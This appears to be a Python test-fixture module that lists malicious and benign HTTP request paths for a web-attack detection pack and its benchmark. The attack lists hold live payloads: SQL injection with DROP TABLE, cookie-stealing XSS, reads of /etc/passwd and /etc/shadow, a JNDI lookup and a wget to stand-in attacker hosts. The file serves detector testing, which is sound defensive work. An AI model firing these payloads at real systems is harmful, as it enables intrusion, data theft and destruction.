"""Attack and benign request targets (path and query as a client sends them), one
corpus for the pack tests and bench/detect.py's generated log."""

from __future__ import annotations

ATTACKS = {
    "sqli": [
        "/search?q=1' UNION SELECT username,password FROM users--",
        "/item?id=1+union+all+select+null,null--",
        "/item?id=1%27%20OR%20%271%27%3D%271",
        "/item?id=1%2527%20OR%20%25271%2527%3D%25271",  # encoded twice
        "/login?user=admin'--&pass=x",
        "/p?id=2;DROP%20TABLE%20users",
        "/api?id=1%20AND%20SLEEP(5)",
        "/x?id=1/**/and/**/1=1",
        "/x?id=-1%20UnIoN/**/SeLeCt%201,2",
        "/t?q=information_schema.tables",
        "/t?q=x%22%20or%20%22a%22=%22a",
        "/t?q=x\\x22 or \\x22a\\x22=\\x22a",  # nginx writes a raw " as \x22
        "/w?id=1;waitfor delay '0:0:5'",
    ],
    "xss": [
        "/search?q=<script>alert(1)</script>",
        "/s?q=%3CScRiPt%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/c?text=<img src=x onerror=alert(1)>",
        "/r?next=javascript:alert(1)",
        "/p?q=%253Csvg%2Fonload%253Dalert(1)%253E",
        "/p?q=<body onload=prompt(1)>",
        "/p?x=String.fromCharCode(88,83,83)",
    ],
    "traversal": [
        "/download?file=../../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fshadow",
        "/static/%252e%252e%252fetc/hosts",
        "/img?f=..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
        "/file?name=report.pdf%00.jpg",
        "/f?p=/proc/self/environ",
    ],
    "cmdi": [
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/cgi?cmd=|id",
        "/run?x=$(whoami)",
        "/api?q=${jndi:ldap://evil.example/a}",
        "/exec?c=%60uname%20-a%60",
        "/x?c=%26%26%20wget%20http://evil/x.sh",
        "/y?c=/bin/sh%20-c%20id",
    ],
    "scanners": [
        "/.env",
        "/.git/config",
        "/wp-config.php.bak",
        "/phpmyadmin/index.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/luci",
        "/actuator/env",
    ],
}

BENIGN = [
    "/",
    "/products/42?ref=home",
    "/search?q=red+shoes&page=2&sort=price-asc",
    "/search?q=o%27neill+jacket",  # an apostrophe in a name is not an injection
    "/search?q=rock+%26+roll",
    "/search?q=black+and+white",
    "/search?q=this+or+that",
    "/search?q=caf%C3%A9+na%C3%AFve",
    "/blog/2026/12/how-to-select-the-union-of-sets",
    "/static/app.3f2a1.js",
    "/api/v2/orders/991?fields=id,name,price&ts=1733533323",
    "/docs/a..b.html",
    "/account;jsessionid=ABC123",
    "/scripts/app.js",
    "/events?type=onerror-report",
    "/wiki/Cat_(Unix)",
    "/calc?expr=1%2B1%3D2",
    "/feed.xml?format=rss",
    "/robots.txt",
    "/.well-known/acme-challenge/xyz",
    "/img/logo.svg",
    "/shell-scripts/guide",
    "/product/alert-lamp",
]
